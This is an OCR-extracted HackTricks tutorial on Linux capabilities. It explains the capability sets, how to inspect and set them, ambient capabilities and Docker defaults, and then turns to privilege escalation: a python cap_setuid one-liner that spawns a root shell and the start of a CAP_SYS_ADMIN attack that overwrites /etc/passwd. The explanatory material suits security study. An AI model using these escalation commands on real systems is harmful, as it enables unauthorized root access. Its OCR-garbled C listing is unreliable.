Linux Capabilities

Support HackTricks and get benefits!
RootedCON is the most relevant cybersecurity event in Spain and one of the most important in Europe. With the mission of promoting technical knowledge, this congress is a boiling meeting point for technology and cybersecurity professionals in every discipline.

Why capabilities?

Linux capabilities provide a subset of the available root privileges to a process. This effectively breaks up root privileges into smaller and distinctive units. Each of these units can then be independently be granted to processes. This way the full set of privileges is reduced and decreasing the risks of exploitation.
To better understand how Linux capabilities work, let’s have a look first at the problem it tries to solve.
Let’s assume we arerunning a process as a normal user. This means we are non-privileged. We can only access data that owned by us, our group, or which is marked for access by all users. At some point in time, our process needs a little bit more permissions to fulfill its duties, like opening a network socket. The problem is that normal users can not open a socket, as this requires root permissions.

Capabilities Sets

Inherited capabilities
CapEff: The effective capability set represents all capabilities the process is using at the moment (this is the actual set of capabilities that the kernel uses for permission checks). For file capabilities the effective set is in fact a single bit indicating whether the capabilities of the permitted set will be moved to the effective set upon running a binary. This makes it possible for binaries that are not capability-aware to make use of file capabilities without issuing special system calls.
CapPrm: (Permitted) This is a superset of capabilities that the thread may add to either the thread permitted or thread inheritable sets. The thread can use the capset() system call to manage capabilities: It may drop any capability from any set, but only add capabilities to its thread effective and inherited sets that are in its thread permitted set. Consequently it cannot add any capability to its thread permitted set, unless it has the cap_setpcap capability in its thread effective set.
CapInh: Using the inherited set all capabilities that are allowed to be inherited from a parent process can bespecified. This prevents a process from receiving any capabilities it does not need. This set is preserved across an execve and is usually set by a process receiving capabilities rather than by a process that’s handing out capabilities to its children.
CapBnd: With the bounding set it’s possible to restrict the capabilities a process may ever receive. Only capabilities that are present in the bounding set will be allowed in the inheritable and permitted sets.
CapAmb: The ambient capability set applies to all non-SUID binaries without file capabilities. It preserves capabilities when calling execve. However, not all capabilities in the ambient set may be preserved because they are being dropped in case they are not present in either the inheritable or permitted capability set. This set is preserved across execve calls.
For a detailed explanation of the difference between capabilities in threads and files and how are the capabilities passed to threadsread the following pages:

Processes & Binaries Capabilities

Processes Capabilities

To see the capabilities for a particular process, use the status file in the /proc directory. As it provides more details, let’s limit it only to the information related to Linux capabilities. Note that for all running processes capability information is maintained per thread, for binaries in the file system it’s stored in extended attributes.
You can find the capabilities defined in /usr/include/linux/capability.h
You can find the capabilities of the current process in cat /proc/self/status or doing capsh --print and of other users in /proc/<pid>/status
cat /proc/1234/status | grep Cap
cat /proc/$$/status | grep Cap #This will print the capabilities of the current process
Thiscommand should return 5 lines on most systems.
  • CapInh = Inherited capabilities
  • CapPrm = Permitted capabilities
  • CapEff = Effective capabilities
  • CapBnd = Bounding set
  • CapAmb = Ambient capabilities set
#These are the typical capabilities of a root owned process (all)
CapInh: 0000000000000000
CapPrm: 0000003fffffffff
CapEff: 0000003fffffffff
CapBnd: 0000003fffffffff
CapAmb: 0000000000000000
These hexadecimalnumbers don’t make sense. Using the capsh utility we can decode them into the capabilities name.
capsh --decode=0000003fffffffff
Lets check now the capabilities used by ping:
cat /proc/9491/status | grep Cap
CapInh: 0000000000000000
CapPrm: 0000000000003000
CapEff: 0000000000000000
CapBnd: 0000003fffffffff
CapAmb: 0000000000000000
capsh --decode=0000000000003000
Although that works, there is another and easier way. To see the capabilities of a running process, simply use thegetpcaps tool followed by its process ID (PID). You can also provide a list of process IDs.
getpcaps 1234
Lets check here the capabilities of tcpdump after having giving the binary enough capabilities (cap_net_admin and cap_net_raw) to sniff the network (tcpdump is running in process 9562):
#The following command give tcpdump the needed capabilities to sniff traffic
$ setcap cap_net_raw,cap_net_admin=eip /usr/sbin/tcpdump
$ getpcaps 9562Capabilities for `9562': = cap_net_admin,cap_net_raw+ep
$ cat/proc/9562/status | grep Cap
CapInh: 0000000000000000
CapPrm: 0000000000003000
CapEff: 0000000000003000
CapBnd: 0000003fffffffff
CapAmb: 0000000000000000
$ capsh --decode=0000000000003000
As you can see the given capabilities corresponds with the results of the 2 ways of getting the capabilities of a binary. The getpcaps tool uses the capget() system call to query the available capabilities for a particular thread. This system call only needs to provide the PID to obtain more information.

Binaries CapabilitiesBinaries can have capabilities that can be used while executing. For example, it's very common to find ping binary with cap_net_raw capability:
getcap /usr/bin/ping
/usr/bin/ping = cap_net_raw+ep
You can search binaries with capabilities using:
getcap -r / 2>/dev/null

Dropping capabilities with capsh

If we drop the CAP_NET_RAW capabilities for ping, then the ping utility should no longer work.
capsh --drop=cap_net_raw --print -- -c "tcpdump"
Besides the output of capsh itself, the tcpdump command itself should also raise an error.
/bin/bash: /usr/sbin/tcpdump: Operation not permitted
The error clearly shows that the ping command is not allowed to open an ICMP socket. Now we know for sure that this works as expected.

Remove Capabilities

You can remove capabilities of a binary withsetcap -r </path/to/binary>

User Capabilities

Apparently it's possible to assign capabilities also to users. This probably means that every process executed by the user will be able to use the users capabilities. Base on on this, this and this a few files new to be configured to give a user certain capabilities but the one assigning the capabilities to each user will be /etc/security/capability.conf. File example:
# Simple
cap_sys_ptrace developer
cap_net_raw user1
# Multiple capablities
cap_net_admin,cap_net_raw jrnetadmin
# Identical, but with numeric values
12,13 jrnetadmin
# Combining names and numerics
cap_sys_admin,22,25 jrsysadmin

Environment Capabilities

Compiling the following program it's possible to spawn a bash shell inside an environment that provides capabilities.
* Test program for the ambient capabilities
* compile using:
* gcc -Wl,--no-as-needed -lcap-ng -o ambient ambient.c
* Set effective, inherited and permitted capabilities to the compiled binary
* sudo setcap cap_setpcap,cap_net_raw,cap_net_admin,cap_sys_nice+eip ambient
* To get a shell with additional caps that can be inherited do:
* ./ambient /bin/bash
#include <stdlib.h>
#include <stdio.h>
#include <string.h>#include <errno.h>
#include <sys/prctl.h>
#include <linux/capability.h>
#include <cap-ng.h>
static void set_ambient_cap(int cap) {
int rc;
rc = capng_update(CAPNG_ADD, CAPNG_INHERITABLE, cap);
if (rc) {
printf("Cannot add inheritable cap\n");
/* Note the two 0s at the end. Kernel checks for these */
if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0)) {
perror("Cannot set cap");
void usage(const char * me) {
printf("Usage: %s [-c caps] new-program new-args\n", me);
int default_caplist[] = {
int * get_caplist(const char * arg) {
int i = 1;
int * list = NULL;
char * dup = strdup(arg), * tok;
for (tok = strtok(dup, ","); tok; tok = strtok(NULL, ",")) {
list = realloc(list, (i + 1) * sizeof(int));
if (!list) {perror("out of memory");
list[i - 1] = atoi(tok);
list[i] = -1;
return list;
int main(int argc, char ** argv) {
int rc, i, gotcaps = 0;
int * caplist = NULL;
int index = 1; // argv index for cmd to start
if (argc < 2)
if (strcmp(argv[1], "-c") == 0) {
if (argc <= 3) {
caplist = get_caplist(argv[2]);
index = 3;
if (!caplist) {
caplist = (int * ) default_caplist;
for (i = 0; caplist[i] != -1; i++) {
printf("adding %d to ambient list\n", caplist[i]);
printf("Ambient forking shell\n");
if (execv(argv[index], argv + index))
perror("Cannot exec");
return 0;
gcc -Wl,--no-as-needed -lcap-ng -o ambient ambient.c
sudo setcap cap_setpcap,cap_net_raw,cap_net_admin,cap_sys_nice+eip ambient
./ambient /bin/bash
Inside the bash executed by the compiled ambient binary it's possible to observe the new capabilities (a regular user won't have any capability in the "current" section).
capsh --print
Current: = cap_net_admin,cap_net_raw,cap_sys_nice+eip
You can only add capabilities that are present in both the permitted and the inheritable sets.

Capability-aware/Capability-dumb binaries

The capability-aware binaries won't use the new capabilities given by the environment, however the capability dumb binaries will use them as they won't reject them. This makes capability-dumb binariesvulnerable inside a special environment that grant capabilities to binaries.

Service Capabilities

By default a service running as root will have assigned all the capabilities, and in some occasions this may be dangerous. Therefore, a service configuration file allows to specify the capabilities you want it to have, and the user that should execute the service to avoid running a service with unnecessary privileges:

Capabilities in Docker Containers

By default Docker assigns a few capabilities to the containers. It's very easy to check which capabilities are these by running:
docker run --rm -it r.j3ss.co/amicontained bash
BOUNDING -> chown dac_override fowner fsetid kill setgid setuid setpcap net_bind_service net_raw sys_chroot mknod audit_write setfcap
# Add a capabilities
docker run --rm -it --cap-add=SYS_ADMIN r.j3ss.co/amicontained bash
# Add all capabilities
docker run --rm -it --cap-add=ALL r.j3ss.co/amicontained bash
# Remove all and add only one
docker run --rm -it --cap-drop=ALL --cap-add=SYS_PTRACE r.j3ss.co/amicontained bash
RootedCON is the most relevant cybersecurity event in Spain and one of the most important in Europe. With the mission of promoting technical knowledge, this congress is a boiling meeting point for technology and cybersecurity professionals in every discipline.

Privesc/Container Escape

Capabilities are useful when you want to restrict your own processes after performing privileged operations (e.g. after setting up chroot and binding to a socket). However, they can be exploited by passing them malicious commands or arguments which are then run as root.
You can force capabilities upon programs using setcap, and query these using getcap:
#Set Capability
setcap cap_net_raw+ep /sbin/ping#Get Capability
getcap /sbin/ping
/sbin/ping = cap_net_raw+ep
The +ep means you’re adding the capability (“-” would remove it) as Effective and Permitted.
To identify programs in a system or folder with capabilities:
getcap -r / 2>/dev/null

Exploitation example

In the following example the binary /usr/bin/python2.6 is found vulnerable to privesc:
setcap cap_setuid+ep /usr/bin/python2.7
/usr/bin/python2.7 = cap_setuid+ep
/usr/bin/python2.7 -c 'import os; os.setuid(0); os.system("/bin/bash");'
Capabilities needed by tcpdump to allow any user to sniff packets:
setcap cap_net_raw,cap_net_admin=eip /usr/sbin/tcpdump
getcap /usr/sbin/tcpdump
/usr/sbin/tcpdump = cap_net_admin,cap_net_raw+eip

The special case of "empty" capabilities

Note that one can assign empty capability sets to a program file, and thus it is possible to create a set-user-ID-root program that changes the effective and saved set-user-ID of the process that executes the program to 0, but confers no capabilities to that process. Or, simplyput, if you have a binary that:
  1. 1.
    is notowned by root
  2. 2.
    has no SUID/SGID bits set
  3. 3.
    has empty capabilities set (e.g.: getcap myelf returns myelf =ep)
then that binary will run as root.


CAP_SYS_ADMIN is largely a catchall capability, it caneasily lead to additional capabilities or full root (typically access to all capabilities). CAP_SYS_ADMIN is required to perform a range of administrative operations, which is difficult to drop from containers if privileged operations are performed within the container. Retaining this capability is often necessary for containers which mimic entire systems versus individual application containers which can be more restrictive. Among other things this allows to mount devices or abuse release_agent to escape from the container.
Example with binary
getcap -r / 2>/dev/null
/usr/bin/python2.7 = cap_sys_admin+ep
Using python you can mount a modified passwd file on top of the real passwd file:
cp /etc/passwd ./ #Create a copy of the passwd file
openssl passwd -1 -salt abc password #Get hash of "password"
vim ./passwd #Change roots passwords of the fake passwd file
And finally mount the modified passwd file on /etc/passwd:
